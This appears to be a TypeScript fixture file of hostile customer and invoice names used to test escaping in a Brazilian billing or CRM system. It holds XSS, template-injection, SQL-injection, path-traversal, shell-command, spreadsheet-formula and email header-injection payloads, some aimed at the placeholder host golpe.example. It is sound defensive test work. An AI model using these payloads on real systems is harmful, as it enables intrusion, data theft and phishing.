const MEGABYTE = 1_000_000;

/** Markup that would be an element, an attribute or the end of one of ours if anybody took it for HTML. */
const MARKUP = {
  'a script': '<script>alert(1)</script>',
  'an image with a handler': '<img src=x onerror=alert(1)>',
  'a drawing with a handler': '<svg/onload=alert(1)>',
  'the end of a quoted attribute': '"><img src=x onerror=alert(1)>',
  'the end of an attribute in single quotes': "' onmouseover='alert(1)",
  'a handler without quotes': 'x onfocus=alert(1) autofocus',
  'the end of our table': '</td></tr></tbody></table><h1>Pague aqui</h1>',
  'the end of the document': '</div></body></html><p>depois do fim</p>',
  'a comment that begins': 'Silva <!-- Filhos',
  'a comment that ends': 'Silva --> <b>Filhos</b>',
  'a comment for one mail program': '<!--[if mso]><b>só aqui</b>',
  'a stretch of plain characters': '<![CDATA[<b>x</b>]]>',
  'a style sheet': '<style>*{display:none}</style>',
  'a linked style sheet': '<link rel=stylesheet href=//golpe.example/x.css>',
  'a page that sends away': '<meta http-equiv=refresh content="0;url=//golpe.example">',
  'another base for links': '<base href=//golpe.example/>',
  'a frame': '<iframe src=//golpe.example></iframe>',
  'a form': '<form action=//golpe.example><input name=senha></form>',
  'a link that runs': '<a href=javascript:alert(1)>pague</a>',
  'a tag that never ends': '<a href="https://golpe.example/',
  'a lone bracket': 'Silva < Filhos > Netos',
  'the end of a text field': '</textarea></title><b>x</b>',
  'what parsers without scripts read otherwise': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'what parsers of formulas read otherwise': '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  'a template': '<template><b>x</b></template>',
  'an instruction': '<?xml version="1.0"?><?php echo 1 ?>',
  'an escaped script': '&lt;script&gt;alert(1)&lt;/script&gt;',
  'a twice escaped tag': '&amp;lt;b&amp;gt;x',
  'brackets by number': '&#60;b&#62;x&#x3c;/b&#x3e;',
  'entities without an end': 'Silva &ltb&gt &copy Cia &amp Filhos',
  'backticks and braces': '`};alert(1);//`',
} as const;

/** What a template engine would work out. */
const TEMPLATES = {
  'a field of the CRM’s templates': '<t t-esc="user.password"/>',
  'raw output of the CRM’s templates': '<t t-out="1+1"/><t t-raw="2+2"/>',
  'another template called': '<t t-call="web.layout"/>',
  'a sum in double braces': '{{ 7*7 }}',
  'a secret in double braces': "{{ object.env['ir.config_parameter'].get_param('database.secret') }}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: another engine's template
  'a sum of the older templates': '${7*7} ${object.company_id.vat}',
  'a loop': '{% for x in (1..9) %}x{% endfor %}',
  'a filter': "{{ 'x' | append: 'y' }}",
  'a named placeholder': '%(email)s %(password)s',
  'numbered placeholders': '%s %d %n {0} {name}',
  'a sum in other braces': '#{7*7} <%= 7*7 %> [[7*7]]',
  'what a replacement would put in': "$& $1 $$ $` $'",
  'a property of every object': '__proto__',
  'a method of every object': 'constructor.constructor("alert(1)")()',
  'escapes that are not unescaped': '\\u003cb\\u003e \\r\\nBcc: \\x41',
} as const;

/** What would be a header, or an address, of its own: mail under such a name could reach others, or nobody. */
const HEADERS = {
  'a header after a line break': 'Ana\r\nBcc: todos@golpe.example',
  'a header after a bare line feed': 'Ana\nBcc: todos@golpe.example',
  'a header after a bare carriage return': 'Ana\rBcc: todos@golpe.example',
  'a folded header': 'Ana\r\n Bcc: todos@golpe.example',
  'a body of its own': 'Ana\r\n\r\n<h1>Pague aqui</h1>',
  'a part of its own': 'Ana\r\n--===============0==\r\nContent-Type: text/html\r\n\r\n<b>x</b>',
  'the end of the message': 'Ana\r\n.\r\nMAIL FROM:<golpe@golpe.example>',
  'a line separator': 'Ana\u2028Bcc: todos@golpe.example',
  'a paragraph separator': 'Ana\u2029Bcc: todos@golpe.example',
  'a next line': 'Ana\u0085Bcc: todos@golpe.example',
  'vertical tabs and form feeds': 'Ana\u000bBcc:\u000ctodos@golpe.example',
  'a null': 'Ana\u0000Bcc: todos@golpe.example',
  'control characters': 'Ana\u0001\u0007\u0008\u001b[31m Silva\u007f',
  'a loop of the older templates': '% for x in range(9):\nx\n% endfor',
  'an encoded word': '=?utf-8?q?Bcc=3A_todos=40golpe.example?=',
  'an encoded line break': '=?utf-8?q?Ana=0D=0ABcc:_todos=40golpe.example?=',
  'an encoded address': '=?utf-8?b?QW5hIDxhbmFAZ29scGUuZXhhbXBsZT4s?=',
  'an address in brackets': 'Ana <ana@golpe.example>',
  'a list of addresses': 'Ana, todos@golpe.example',
  'a list with semicolons': 'Ana; todos@golpe.example',
  'a group of addresses': 'Todos: ana@golpe.example;',
  'a comment of a header': 'Ana (todos@golpe.example)',
  'the end of a quoted name': '" <todos@golpe.example>, "',
  'an escaped end of a quoted name': '\\" <todos@golpe.example>, \\"',
} as const;

/** What a careless header would end at. */
const QUOTES = {
  quotes: 'Ana "a chefe" Silva',
  'a quote that never ends': 'Ana "a chefe',
  'a backslash at the end': 'Ana Silva \\',
  'a comment that never ends': 'Ana (a chefe',
  'a group that never ends': 'Todos: Ana, Rui',
} as const;

/** Letters that are not what they seem. */
const LETTERS = {
  emoji: 'Padaria 🥖 Pão Quente 😀',
  'emoji joined to a family': 'Família 👨‍👩‍👧‍👦 Souza 🏳️‍🌈',
  flags: 'Importadora 🇧🇷🇵🇹 Ltda',
  Arabic: 'شركة النخيل للتجارة',
  'Hebrew with digits and signs': 'חברת הדקל 500 (2026)',
  'an override from right to left': 'Loja \u202e00,1 $R rirbоc',
  'directions that never end': 'Loja \u202b\u2067\u2066\u202dNorte',
  'directions that end too often': 'Loja \u202c\u2069\u2069Norte',
  'marks of direction': '\u200f\u200eLoja\u061c Norte',
  'accents piled up': `Z${'\u0301\u0323\u0336'.repeat(200)}algo Ltda`,
  'accents apart from their letters': 'Jose\u0301 Concei\u0063\u0327a\u0303o',
  'Cyrillic that looks Latin': 'Аmаzоn Ltdа',
  'brackets in full width': '＜script＞alert（1）＜/script＞',
  'half a character': 'Ana \ud83d Silva',
  'the other half of a character': 'Ana \ude00 Silva',
  'a byte order mark': '\ufeffAna Silva\ufeff',
  'what is no character': 'Ana \ufffe\uffff\ufdd0 Silva',
  'nothing that is seen': '\u200b\u200c\u2060\u00ad',
  'unseen tags': 'Ana\u{e0041}\u{e0042}\u{e007f} Silva',
  'private letters': 'Ana \ue000\uf8ff Silva',
  'spaces of many widths': '\u3000Ana\u00a0\u2003\u2009Silva\u205f',
  'soft hyphens': 'A\u00adn\u00ada Sil\u00adva',
} as const;

/** What means something elsewhere: in a sheet, a database, a shell, or to a hasty reader. */
const ELSEWHERE = {
  'a formula with a link': '=HYPERLINK("https://golpe.example";"clique")',
  'a formula that runs': "@SUM(1+1)*cmd|' /C calc'!A0",
  'a sign before a formula': '+55-1+1|cmd',
  'a table dropped': "Robert'); DROP TABLE res_partner;--",
  'what is always true': "' OR '1'='1",
  wildcards: '%_%*?',
  'a path': '../../../../etc/passwd',
  'a command': '$(reboot); `reboot` && reboot | reboot',
  'an address to click on': 'https://golpe.example/pague-aqui',
  'a script as an address': 'javascript:alert(document.domain)',
  'an amount of its own': 'R$ 0,01 já quitado',
  'a debt of its own': 'Dívida vencida de R$ 9.999,99',
  'an object': '{"customerId":1,"name":null}',
  'nothing in other languages': 'null undefined NaN None false',
} as const;

/** What is much too long. */
const LENGTHS = {
  'a megabyte': `Comercial ${'muito longa '.repeat(MEGABYTE / 12)}`,
  'a megabyte of one word': 'x'.repeat(MEGABYTE),
  'a megabyte of brackets': '<'.repeat(MEGABYTE),
  'a family where a name is cut': `${'a'.repeat(118)}👨‍👩‍👧‍👦`,
} as const;

/** Names that a customer or an invoice may be given, each by what it tries. */
export const HARMLESS_ONCE_SHOWN: Readonly<Record<string, string>> = {
  ...MARKUP,
  ...TEMPLATES,
  ...QUOTES,
  ...LETTERS,
  ...ELSEWHERE,
  ...LENGTHS,
};

/** Names under which nobody may be written to. */
export const NOT_TO_BE_MAILED: Readonly<Record<string, string>> = HEADERS;
